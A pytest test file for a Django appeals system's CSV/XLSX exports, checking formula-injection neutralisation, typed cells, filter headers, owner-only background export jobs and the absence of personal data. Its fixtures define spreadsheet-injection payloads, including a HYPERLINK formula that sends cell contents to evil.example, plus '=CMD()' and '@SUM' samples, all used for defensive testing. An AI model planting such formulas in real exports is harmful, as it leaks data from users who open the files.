"""Exports of the queue: formula neutralisation (CSV and XLSX), typed cells, the filters on the sheet,
large selections as a background job downloaded by its owner only, no personal data."""

import csv
import io
import time
from datetime import timedelta
from zoneinfo import ZoneInfo

import pytest
from django.test import override_settings
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from openpyxl.cell import WriteOnlyCell

from appeals.models import ExportJob, Status
from appeals.tasks import export_run
from appeals.workspace import exports
from cur import spreadsheets
from municipalities.models import Municipality
from tests.cur.test_worker import worker_node  # noqa: F401 (the real worker, a fixture)
from tests.personas import PESTRAVKA, TOLYATTI, user

pytestmark = pytest.mark.django_db

SAMARA = ZoneInfo("Europe/Samara")
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Подробнее")'


@pytest.fixture(autouse=True)
def media_root(tmp_path, settings, monkeypatch):
    settings.MEDIA_ROOT = tmp_path / "media"
    monkeypatch.setenv("MEDIA_ROOT", str(settings.MEDIA_ROOT))  # for a worker process started by a test
    return settings.MEDIA_ROOT


@pytest.fixture
def evil(make_appeal):
    return make_appeal(PESTRAVKA, title=EVIL, address=" @SUM(1+1)", status=Status.NEW)


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def table(workbook):
    """The rows of the sheet from the header row on, and the rows above it (the conditions)."""
    rows = list(workbook.active.iter_rows())
    header = next(i for i, row in enumerate(rows) if row[0].value == "Номер")
    return rows[:header], rows[header], rows[header + 1:]


@pytest.mark.parametrize("value", [
    "=1+1", "+79271234567", "-2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1+1", "   @SUM(A1)", "\u00a0+cmd", " -1",
])
def test_a_text_that_a_spreadsheet_would_run_is_neutralised(value):
    assert spreadsheets.is_formula_like(value)
    assert spreadsheets.spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Нет воды", " нет воды", "5-й дом", "ул. Мира, 5", "", "e-mail"])
def test_an_ordinary_text_is_left_alone(value):
    assert spreadsheets.spreadsheet_cell(value) == value


def test_the_csv_neutralises_formulas(client, evil):
    client.force_login(user("pestravka_operator"))
    response = client.get(reverse("appeals:export_csv"))

    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    header, *rows = csv_rows(body(response))
    row = dict(zip(header, next(r for r in rows if r[0] == evil.number), strict=True))
    assert row["Суть"] == "'" + EVIL
    assert row["Адрес"] == "' @SUM(1+1)"


def test_the_xlsx_never_writes_a_formula(client, evil):
    client.force_login(user("pestravka_operator"))
    workbook = load_workbook(io.BytesIO(body(client.get(reverse("appeals:export_xlsx")))))

    cells = [cell for row in workbook.active.iter_rows() for cell in row if cell.value is not None]
    assert cells and all(cell.data_type != "f" for cell in cells)
    _, _, rows = table(workbook)
    row = next(row for row in rows if row[0].value == evil.number)
    assert (row[14].value, row[14].data_type) == ("'" + EVIL, "s")  # as in the CSV
    assert (row[9].value, row[9].data_type) == ("' @SUM(1+1)", "s")
    assert (row[2].value, row[2].data_type) == (evil.get_kind_display(), "s")  # ordinary texts left as they are

    # a formula typed into the search box is written among the conditions — as text too
    workbook = load_workbook(io.BytesIO(body(client.get(reverse("appeals:export_xlsx"), {"q": "=CMD()"}))))
    above, _, _ = table(workbook)
    search = next(row for row in above if row[0].value == "Поиск")[1]
    assert (search.value, search.data_type) == ("'=CMD()", "s")


def test_openpyxl_alone_would_have_made_a_formula():
    """Why every text cell is forced to a string: openpyxl makes a formula of any text starting with «=»,
    and the cell builder keeps it a string even for such a text (whatever reaches it unneutralised)."""
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    assert WriteOnlyCell(sheet, value=EVIL).data_type == "f"
    cell = spreadsheets.xlsx_cell(sheet, EVIL)
    assert (cell.value, cell.data_type) == ("'" + EVIL, "s")


def test_the_xlsx_cells_are_typed_dates_in_the_regions_zone(client, make_appeal):
    received = timezone.now().replace(microsecond=0) - timedelta(days=1)
    appeal = make_appeal(PESTRAVKA, received_at=received, due_at=received + timedelta(days=10))
    client.force_login(user("pestravka_operator"))

    _, header, rows = table(load_workbook(io.BytesIO(body(client.get(reverse("appeals:export_xlsx"))))))
    assert [cell.value for cell in header] == [title for _, title in exports.COLUMNS]
    row = next(row for row in rows if row[0].value == appeal.number)
    assert row[1].data_type == "d" and row[1].value == received.astimezone(SAMARA).replace(tzinfo=None)
    assert row[1].number_format == spreadsheets.DATETIME_FORMAT
    assert row[11].value == (received + timedelta(days=10)).astimezone(SAMARA).replace(tzinfo=None)
    assert row[0].data_type == "s"  # the number «0000012» keeps its zeros: an identifier, not a quantity


def test_the_filters_are_written_on_the_sheet(client, make_appeal):
    make_appeal(PESTRAVKA, status=Status.NEW)
    pestravka = Municipality.objects.get(oktmo=PESTRAVKA)
    operator = user("pestravka_operator")
    client.force_login(operator)

    response = client.get(reverse("appeals:export_xlsx"),
                          {"status": "new", "municipality": pestravka.pk, "overdue": "false", "due_within": "48"})
    above, _, rows = table(load_workbook(io.BytesIO(body(response))))
    block = {row[0].value: row[1].value for row in above if len(row) > 1 and row[0].value}
    assert above[0][0].value == "Условия выгрузки:"
    assert block["Статус"] == "Новое" and block["МО"] == str(pestravka) and block["Просрочено"] == "нет"
    assert block["Срок истекает в ближайшие, ч"] == 48  # a number as a number
    assert block["Выгрузил"].endswith(f"({operator.username})")
    moment = next(row for row in above if row[0].value == "Сформировано")[1]
    assert moment.data_type == "d" and abs(moment.value - timezone.now().astimezone(SAMARA).replace(tzinfo=None)) \
        < timedelta(minutes=5)


def test_without_filters_the_sheet_says_so(client, make_appeal):
    make_appeal(PESTRAVKA)
    client.force_login(user("pestravka_operator"))
    above, _, _ = table(load_workbook(io.BytesIO(body(client.get(reverse("appeals:export_xlsx"))))))
    assert ("Фильтры", "не заданы — все обращения, доступные пользователю") in [
        (row[0].value, row[1].value) for row in above if len(row) > 1]


def test_exports_carry_no_personal_data_and_keep_to_the_scope(client, make_appeal):
    mine = make_appeal(PESTRAVKA, citizen_name="Сидоренко Ольга Павловна", citizen_email="olga@example.ru",
                       text="Прошу помочь, мой телефон +7 927 111-22-33, живу по ул. Мира, 5")
    other = make_appeal(TOLYATTI)
    client.force_login(user("cur_operator"))  # a role that sees personal data on the card

    data = body(client.get(reverse("appeals:export_csv"))).decode("utf-8-sig")
    assert mine.number in data and "Сидоренко" not in data and "olga@example.ru" not in data
    assert "111-22-33" not in data
    xlsx = load_workbook(io.BytesIO(body(client.get(reverse("appeals:export_xlsx")))))
    values = " ".join(str(cell.value) for row in xlsx.active.iter_rows() for cell in row if cell.value)
    assert "Сидоренко" not in values and "111-22-33" not in values

    client.force_login(user("pestravka_operator"))
    data = body(client.get(reverse("appeals:export_csv"))).decode("utf-8-sig")
    assert mine.number in data and other.number not in data


# --- large selections ---------------------------------------------------------------------------------------


@pytest.fixture
def three(make_appeal):
    return [make_appeal(PESTRAVKA, title=f"Обращение {i}" if i else EVIL) for i in range(3)]


def test_the_size_check_is_bounded(three, django_assert_num_queries):
    appeals = exports.appeal_filtered(user=user("pestravka_operator"), params={})
    with override_settings(CUR_EXPORT_SYNC_MAX=2), django_assert_num_queries(1) as captured:
        assert exports.export_is_large(appeals)
    assert "LIMIT 3" in captured.captured_queries[0]["sql"]
    with override_settings(CUR_EXPORT_SYNC_MAX=3):
        assert not exports.export_is_large(appeals)


@override_settings(CUR_EXPORT_SYNC_MAX=2)
def test_a_large_export_runs_in_the_background_and_only_its_owner_downloads_it(
        client, three, django_capture_on_commit_callbacks):
    operator = user("pestravka_operator")
    client.force_login(operator)
    with django_capture_on_commit_callbacks() as queued:
        response = client.get(reverse("appeals:export_xlsx"), {"state": "open"})

    job = ExportJob.objects.get(user=operator)
    assert response.status_code == 302 and response["Location"] == reverse("appeals:export_job", args=[job.pk])
    assert len(queued) == 1  # export_run.delay, once the job is committed
    assert (job.status, job.format, job.query) == (ExportJob.Status.QUEUED, "xlsx", "state=open")
    polling = client.get(reverse("appeals:export_job", args=[job.pk]), headers={"HX-Request": "true"})
    assert 'hx-trigger="every 1s"' in polling.content.decode() and "Выгрузка идёт" in polling.content.decode()

    assert export_run.apply(args=[job.pk]).get()["written"] == 3  # the task body, run here
    assert export_run.apply(args=[job.pk]).get() == {"job": job.pk, "skipped": "not queued"}  # redelivered: no-op
    job.refresh_from_db()
    assert (job.status, job.written, job.total, job.progress) == (ExportJob.Status.DONE, 3, 3, 100)
    assert job.file.name.startswith("exports/") and job.file.name.endswith(".xlsx")

    page = client.get(reverse("appeals:export_job", args=[job.pk])).content.decode()
    download = reverse("appeals:export_download", args=[job.pk])
    assert "Выгрузка готова" in page and download in page and job.file.url not in page
    assert "Условия выгрузки: В работе / закрытые — в работе." in page
    response = client.get(download)
    assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
    above, _, rows = table(load_workbook(io.BytesIO(body(response))))
    assert len(rows) == 3 and all(cell.data_type != "f" for row in rows for cell in row)
    assert ("В работе / закрытые", "в работе") in [(row[0].value, row[1].value) for row in above if len(row) > 1]

    for stranger in ("tolyatti_operator", "cur_operator", "executor_pestravka_zhkh"):
        client.force_login(user(stranger))
        assert client.get(download).status_code == 404
        assert client.get(reverse("appeals:export_job", args=[job.pk])).status_code == 404
    client.logout()
    assert client.get(download).status_code == 302  # to the login page


@override_settings(CUR_EXPORT_SYNC_MAX=2)
def test_a_large_csv_export_is_neutralised_too(client, three):
    client.force_login(user("pestravka_operator"))
    assert client.get(reverse("appeals:export_csv")).status_code == 302
    job = ExportJob.objects.get(user=user("pestravka_operator"))
    export_run.apply(args=[job.pk])

    header, *rows = csv_rows(body(client.get(reverse("appeals:export_download", args=[job.pk]))))
    assert header[0] == "Номер" and len(rows) == 3
    assert "'" + EVIL in [row[14] for row in rows]


def test_a_job_not_finished_is_not_downloadable(client):
    operator = user("pestravka_operator")
    job = ExportJob.objects.create(user=operator, format="csv")
    client.force_login(operator)
    assert client.get(reverse("appeals:export_download", args=[job.pk])).status_code == 404


def test_a_failed_job_says_why(client, monkeypatch, three):
    operator = user("pestravka_operator")
    job = ExportJob.objects.create(user=operator, format="xlsx")

    def broken(*args, **kwargs):
        raise OSError("диск заполнен")

    monkeypatch.setattr(exports, "xlsx_write", broken)
    assert exports.export_job_process(job_id=job.pk)["status"] == ExportJob.Status.FAILED
    client.force_login(operator)
    page = client.get(reverse("appeals:export_job", args=[job.pk])).content.decode()
    assert "Выгрузка не выполнена" in page and "диск заполнен" in page


@pytest.mark.worker
@pytest.mark.django_db(transaction=True)
@override_settings(CUR_EXPORT_SYNC_MAX=1)
def test_the_worker_writes_a_large_export_queued_by_the_web_process(client, worker_node, make_appeal):  # noqa: F811
    made = [make_appeal(PESTRAVKA, title=f"Обращение {i}") for i in range(2)]
    operator = user("pestravka_operator")
    client.force_login(operator)

    assert client.get(reverse("appeals:export_xlsx")).status_code == 302  # committed, so the task is sent
    job = ExportJob.objects.get(user=operator)
    for _ in range(120):
        job.refresh_from_db()
        if job.status in (ExportJob.Status.DONE, ExportJob.Status.FAILED):
            break
        time.sleep(0.25)
    assert (job.status, job.written, job.error) == (ExportJob.Status.DONE, 2, "")
    _, _, rows = table(load_workbook(io.BytesIO(body(client.get(reverse("appeals:export_download", args=[job.pk]))))))
    assert sorted(row[0].value for row in rows) == sorted(a.number for a in made)
